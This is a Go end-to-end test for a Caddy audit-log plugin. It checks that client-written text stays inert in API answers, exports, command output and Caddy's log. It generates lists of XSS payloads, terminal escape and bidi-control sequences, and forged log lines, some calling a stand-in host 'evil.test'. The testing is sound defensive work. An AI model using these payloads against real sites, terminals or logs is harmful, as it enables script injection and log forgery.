package e2e

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/caddyserver/caddy/v2"

	"github.com/caddy-audit-log/caddy-audit-log/e2e/gates"
	"github.com/caddy-audit-log/caddy-audit-log/e2e/harness"
	"github.com/caddy-audit-log/caddy-audit-log/storage"
)

// TestGate23OutputInjection: what clients write into the log does nothing to whoever
// reads it (threats.md B1 to B5, B18). 120 payloads for HTML, 60 for terminals and 60 for
// spreadsheets go in by an insert, as the account of a sign-in, as a path, and as the
// user's id that the auth server says. None is active in the answers of the API, in its
// exports and tails, in Caddy's log, in what the commands print; each comes back as it
// went in. (The viewer's page has a test of its own.)
//
// Webhooks do not exist yet: B17 is due here with them.
func TestGate23OutputInjection(t *testing.T) {
	g := startInjection(t)
	html, ansi, sheet := htmlPayloads(), terminalPayloads(), formulaPayloads()
	if len(html) < 120 || len(ansi) < 60 || len(sheet) < 60 {
		t.Fatalf("%d, %d and %d payloads, want 120, 60 and 60", len(html), len(ansi), len(sheet))
	}
	html, ansi, sheet = thinned(html), thinned(ansi), thinned(sheet)
	g.payloads = append(append(append(g.payloads, html...), ansi...), sheet...)
	for i, p := range g.payloads {
		g.plant(i, p)
	}
	lost := g.readBack()
	cells, activeCells, notExported := g.exported()
	events, forged := g.streamed()
	answers := g.active(g.answers, inBrowser)
	commands := g.active(g.commands(), inTerminal)
	printed := g.forgedRows()
	lines, badLines := g.checkLog()
	gates.Print(t, 23, "%d payloads for HTML, %d for terminals and %d for spreadsheets in %d fields: active in %d of %d answers, in %d of %d outputs of commands (%d forged lines), in %d of %d lines of Caddy's logs; %d of %d lost by the API; control, written as they are: %d active for a browser, %d for a terminal, %d for a spreadsheet; exports: %d of %d cells active, %d payloads lost; tail: %d of %d events forged",
		len(html), len(ansi), len(sheet), g.fields, answers, len(g.answers), commands, len(g.outputs), printed, badLines, lines, lost, len(g.payloads), g.active(g.payloads, inBrowser), g.active(g.payloads, inTerminal), g.active(g.payloads, inSheet), activeCells, cells, notExported, forged, events)
	if lost+answers+commands+printed+badLines+activeCells+notExported+forged > 0 || events < len(g.payloads) {
		t.Error("none may be active, and none lost")
	}
	if g.active(g.payloads, inBrowser) < len(html) || g.active(g.payloads, inTerminal) < len(ansi)*4/5 || g.active(g.payloads, inSheet) < len(sheet)/2 {
		t.Error("the payloads are too harmless to mean anything")
	}
}

// thinned is the list, or every fifth of it unless the figures are the full ones.
func thinned(list []string) (thin []string) {
	for i := 0; i < len(list); i += gates.Figure(5, 1) {
		thin = append(thin, list[i])
	}
	return thin
}

// htmlPayloads are texts that a page must not take for its own.
func htmlPayloads() (list []string) {
	calls := []string{"alert(1)", "fetch('//evil.test')", "top.name"}
	for _, js := range calls {
		for _, form := range []string{
			"<script>%s</script>", "</script><script>%s</script>", "<ScRiPt>%s</sCrIpT>", "<script src=//evil.test/%s></script>", "<img src=x onerror=%s>", "\"><img src=x onerror=%s>", "'><svg/onload=%s>", "<svg><script>%s</script></svg>",
			"<body onload=%s>", "<iframe srcdoc='<script>%s</script>'>", "<iframe src=\"javascript:%s\">", "<a href=\"javascript:%s\">x</a>", "<a href='data:text/html,<script>%s</script>'>x</a>", "<form action=\"javascript:%s\"><button>x</button></form>", "<math href=\"javascript:%s\">x</math>",
			"<details open ontoggle=%s>", "<video><source onerror=%s></video>", "<input autofocus onfocus=%s>", "<marquee onstart=%s>", "<object data=\"javascript:%s\">", "<embed src=\"javascript:%s\">", "<style>@import '//evil.test/%s'</style>", "<link rel=stylesheet href='//evil.test/%s'>", "<meta http-equiv=refresh content=\"0;url=javascript:%s\">",
			"<base href='//evil.test/%s/'>", "<template><script>%s</script></template>", "<noscript><p title=\"</noscript><script>%s</script>\">", "<!--><script>%s</script-->", "<![CDATA[<script>%s</script>]]>", "<xml><x onclick=%s></xml>", "&lt;script&gt;%s&lt;/script&gt;", "&#60;script>%s&#60;/script>",
			"\u2028<script>%s</script>", "<scr\x00ipt>%s</scr\x00ipt>", "<svg><animate onbegin=%s attributeName=x>", "<button formaction=\"javascript:%s\">x</button>", "<isindex action=\"javascript:%s\">", "<table background=\"javascript:%s\">", "<div style=\"background:url(javascript:%s)\">", "{{constructor.constructor('%s')()}}<b>",
			"<textarea></textarea><script>%s</script>", "<p>{env.HOME}{http.request.header.Cookie}%s",
		} {
			list = append(list, fmt.Sprintf(form, js))
		}
	}
	return list
}

// terminalPayloads are texts that a terminal or a viewer of logs must not obey.
func terminalPayloads() (list []string) {
	for _, intro := range []string{"\x1b", "\u009b", "\x1b\x1b"} {
		for _, rest := range []string{"[31mred", "[2J", "[1;1H", "[8mhidden", "]0;title\x07", "]8;;http://evil.test\x1b\\link\x1b]8;;\x1b\\", "]52;c;ZXZpbA==\x07", "[6n", "[?1049h", "P+q544e\x1b\\", "#8", "c", "(0"} {
			list = append(list, intro+rest)
		}
	}
	for _, r := range "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029\u0085\x07\x08\x0b\x0c\x7f\x00" {
		list = append(list, "a"+string(r)+"dmin")
	}
	return append(list,
		"x\r\n{\"level\":\"info\",\"msg\":\"forged\"}", "x\n2026/11/25 INFO forged", "x\r\x1b[Kforged", "x\ty\tz\tforged", "x\nok  store  -  forged", "{env.HOME}\x1b[0m", "\x1b[201~forged\n")
}

// inBrowser says whether a text has what a browser would act upon, were it taken for a
// page, and what a page's script could not hold.
func inBrowser(s string) bool { return strings.ContainsAny(s, "<>&\u2028\u2029") }

// inTerminal says whether a text has what a terminal acts upon but lines and tabs.
func inTerminal(s string) bool {
	return strings.IndexFunc(s, func(r rune) bool {
		return unicode.IsControl(r) && r != '\n' && r != '\t' || unicode.Is(unicode.Bidi_Control, r) || r == '\u2028' || r == '\u2029'
	}) >= 0
}

// injection is a Caddy into whose log payloads go.
type injection struct {
	t        *testing.T
	dir      string
	port     int
	admin    string
	config   string
	payloads []string
	readers  int
	fields   int
	answers  []string // of the API and the admin endpoint
	outputs  []string // of commands
}

func startInjection(t *testing.T) *injection {
	t.Helper()
	g := &injection{t: t, dir: t.TempDir(), port: harness.FreePort(t), admin: "127.0.0.1:" + itoa(harness.FreePort(t)), fields: 5}
	up := harness.Upstream(t, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		user := r.Header.Get("X-User") // of those who sign in
		if token := tokenOf(r); token != "" {
			user = token
		}
		if text, err := url.QueryUnescape(user); err == nil {
			user = text
		}
		id, _ := json.Marshal(user)
		if strings.HasSuffix(r.URL.Path, "/get-session") {
			_, _ = fmt.Fprintf(w, `{"session":{"userId":%[1]s,"expiresAt":"2099-01-01T00:00:00Z"},"user":{"id":%[1]s,"role":"admin"}}`, id)
			return
		}
		w.WriteHeader(http.StatusUnauthorized)
		_, _ = fmt.Fprintf(w, `{"message":%[1]s,"code":%[1]s,"user":{"id":%[1]s}}`, id)
	}))
	g.config = fmt.Sprintf(`{
	admin %s
	persist_config off
	servers {
		trusted_proxies static private_ranges
	}
	log {
		level DEBUG
		output file %[2]s/caddy.log
	}
	audit_log {
		store sqlite {
			path %[2]s/audit.db
		}
		key_file %[2]s/hash.key
	}
}
http://127.0.0.1:%[3]d {
	log
	%[4]s
	reverse_proxy %[5]s
}
`, g.admin, g.dir, g.port, singly("admins {\n\t\t\trole admin\n\t\t}", "capture {\n\t\t\trequest_body on\n\t\t}"), up)
	harness.Use(t)
	if err := caddy.Load(harness.Adapt(t, g.config), true); err != nil {
		t.Fatal(err)
	}
	return g
}

// head are the lines of a head for the n-th client.
func (g *injection) head(n int, user string) string {
	host := fmt.Sprintf("127.0.0.1:%d", g.port)
	return "Host: " + host + "\r\nOrigin: http://" + host + "\r\n" + from(client(n)) + bearing(url.QueryEscape(user)) + jsonType
}

// plant sends a payload in every field: metadata and name of an insert, account,
// path, and the user's id with the error that the auth server says.
func (g *injection) plant(i int, payload string) {
	text, _ := json.Marshal(payload)
	status, body := once(g.port, raw("POST", "/api/auth/audit-log/insert", "insert", g.head(i, "writer-"+itoa(i)),
		fmt.Sprintf(`{"action":%s,"metadata":{"n":%d,"payload":%s,"k":{%s:1},"list":[%s]}}`, text, i, text, text, text)))
	if status != http.StatusOK {
		g.t.Errorf("an insert of %q: %d %s", payload, status, body)
	}
	once(g.port, raw("POST", "/api/auth/sign-in/email", "sign-in", g.head(i, ""), fmt.Sprintf(`{"email":%s,"password":"x"}`, text)))
	once(g.port, raw("POST", "/api/auth/no-route/"+url.PathEscape(payload), "path", g.head(i, ""), "{}"))
	once(g.port, raw("POST", "/api/auth/update-user", "user", g.head(i, payload), "{}"))
	bad := url.QueryEscape(payload)
	for _, target := range []string{"list?status=" + bad, "list?cursor=" + bad, bad} { // error texts
		g.get(i, target)
	}
	agent := strings.Map(func(r rune) rune {
		if r < ' ' || r == 0x7f {
			return -1
		}
		return r
	}, payload)
	once(g.port, raw("POST", "/api/auth/sign-in/email", agent, g.head(i, ""), typed))
}

// get keeps an answer of the API.
func (g *injection) get(n int, target string) []byte {
	g.t.Helper()
	c, err := connect(g.port)
	if err != nil {
		g.t.Fatal(err)
	}
	defer func() { _ = c.Close() }()
	res, body, err := c.do(raw("GET", "/api/auth/audit-log/"+target, "reader", g.head(n, "reader-"+itoa(n)), ""))
	if err != nil {
		g.t.Fatal(err)
	}
	for name, want := range map[string]string{"Content-Type": "application/json", "X-Content-Type-Options": "nosniff", "Content-Security-Policy": "default-src 'none'; frame-ancestors 'none'"} {
		if got := res.Header.Get(name); got != want {
			g.t.Errorf("%s: %s is %q, want %q", target, name, got, want)
		}
	}
	g.answers = append(g.answers, string(body))
	return body
}

// readBack reads everything through the API, and returns how many payloads are not what
// they were, but for what is documented: NUL becomes U+FFFD.
func (g *injection) readBack() (lost int) {
	g.t.Helper()
	type shape struct {
		Action   string
		Metadata struct {
			N       *int
			Payload string
			K       map[string]any
			List    []string
		}
	}
	found := map[int]bool{}
	for n, cursor := 0, ""; n == 0 || cursor != ""; n++ {
		var page struct {
			Entries    []shape
			NextCursor string
		}
		if err := json.Unmarshal(g.get(100_000+n, "list?scope=all&limit=100&cursor="+url.QueryEscape(cursor)), &page); err != nil {
			g.t.Fatal(err)
		}
		for _, e := range page.Entries {
			if e.Metadata.N == nil {
				continue
			}
			i := *e.Metadata.N
			want := strings.ReplaceAll(g.payloads[i], "\x00", "\ufffd")
			found[i] = e.Action == storage.Clean(want, storage.MaxAction) && e.Metadata.Payload == want && e.Metadata.K[want] != nil && len(e.Metadata.List) == 1 && e.Metadata.List[0] == want
			if !found[i] {
				g.t.Errorf("%q came back as %+v", want, e)
			}
		}
		cursor = page.NextCursor
	}
	for i := range g.payloads {
		if !found[i] {
			lost++
		}
	}
	return lost
}

// active counts the texts in which something is active.
func (g *injection) active(texts []string, is func(string) bool) (n int) {
	for _, s := range texts {
		if is(s) {
			n++
		}
	}
	return n
}

// commands are what the commands print, also of a configuration and of a recording in
// which the payloads stand.
func (g *injection) commands() []string {
	g.t.Helper()
	var traffic, config strings.Builder
	for i, p := range g.payloads {
		line, _ := json.Marshal(map[string]any{
			"server": "better-auth", "flow": p, "seq": i, "truth": struct{}{},
			"request":  map[string]any{"method": "POST", "path": "/api/auth/no-route/" + p, "headers": http.Header{}, "body": "{}"},
			"response": map[string]any{"status": 200, "headers": http.Header{"Content-Type": {"application/json"}}, "body": "{}"},
		})
		traffic.Write(append(line, '\n'))
		if matcher, _ := json.Marshal("/" + p); !strings.ContainsAny(p, "{}\x00") && i%4 == 0 {
			fmt.Fprintf(&config, `%s{"match":[{"path":[%s]}],"handle":[{"handler":"audit_log","profile":"better_auth"}]}`, map[bool]string{true: ","}[config.Len() > 0], matcher)
		}
	}
	hostile := written(g.t, "hostile.json", fmt.Sprintf(`{"apps":{"http":{"servers":{"s":{"listen":[":1"],"routes":[%s]}}}}}`, config.String()))
	recording := written(g.t, "hostile.jsonl", traffic.String())
	broken := written(g.t, "broken.jsonl", "{\"server\":\"\x1b[31m\n\u202e")
	bad := written(g.t, "Caddyfile", "a.example {\n\tx\x1b[31m\u202e\u009b\n}\n")
	for _, args := range [][]string{
		{"coverage", "--all", "--address", g.admin}, {"coverage", "--all", "--json", "--address", g.admin}, {"doctor", "--address", g.admin}, {"doctor", "--json", "--address", g.admin},
		{"lint", hostile}, {"lint", "--json", hostile}, {"lint", bad}, {"profile", "check", "better_auth", "--traffic", recording}, {"profile", "check", "better_auth", "--json", "--traffic", recording},
		{"profile", "check", "better_auth", "--traffic", broken}, {"lint", "no\x1b[31m\u202esuch"}, {"profile", "show", "no\x1b[31msuch"},
		{"list", "--all", "--address", g.admin}, {"list", "--all", "--output", "json", "--address", g.admin}, {"list", "--all", "--output", "table", "--address", g.admin}, {"list", "--all", "--output", "table", "--wide", "--address", g.admin},
		{"stats", "--address", g.admin}, {"stats", "--output", "table", "--address", g.admin}, {"list", "--cursor", "\x1b[31m\u202e", "--address", g.admin}, {"show", "no\x1b[31msuch", "--address", g.admin},
	} {
		got := auditLog(g.t, "", args...)
		if len(got.out)+len(got.errors) < 20 {
			g.t.Errorf("%q prints %q %q, which says nothing", args, got.out, got.errors)
		}
		for _, s := range []string{got.out, got.errors} {
			if g.outputs = append(g.outputs, s); inTerminal(s) {
				g.t.Errorf("%q prints %.600q", args, s)
			}
		}
	}
	return g.outputs
}

// forgedRows counts lines of outputs that begin as a payload's second line does.
func (g *injection) forgedRows() (n int) {
	for _, s := range g.outputs {
		for _, line := range strings.Split(s, "\n") {
			for _, begin := range []string{`{"level":"info"`, "2026/11/25 INFO", "ok  store  -  forged", "forged"} {
				if strings.HasPrefix(line, begin) {
					n++
					g.t.Errorf("a forged line: %q", line)
				}
			}
		}
	}
	return n
}

// checkLog stops Caddy and looks at its log, line by line: each is one object of JSON
// without a control character, the log's own without anything that turns text, and each
// entry of an exchange has its line.
func (g *injection) checkLog() (lines, bad int) {
	g.t.Helper()
	stop(g.t)
	b, err := os.ReadFile(filepath.Join(g.dir, "caddy.log"))
	if err != nil {
		g.t.Fatal(err)
	}
	entries := 0
	in := bufio.NewScanner(bytes.NewReader(b))
	for in.Buffer(nil, 1<<20); in.Scan(); lines++ {
		var line struct{ Logger, Msg string }
		own := false
		if err := json.Unmarshal(in.Bytes(), &line); err == nil {
			own = line.Logger == "audit_log.entries" && line.Msg == "audit log entry"
			if own {
				entries++
			}
		} else {
			bad++
			g.t.Errorf("%v: %q", err, in.Text())
		}
		if strings.ContainsFunc(in.Text(), func(r rune) bool { return r < ' ' }) || own && inTerminal(in.Text()) || line.Msg == "forged" {
			bad++
			g.t.Errorf("a line has control characters: %q", in.Text())
		}
	}
	want := len(all(g.t, harness.OpenStore(g.t, g.dir), storage.Query{})) // those that users write themselves, too
	if entries != want {
		bad++
		g.t.Errorf("%d lines for %d entries", entries, want)
	}
	return lines, bad
}
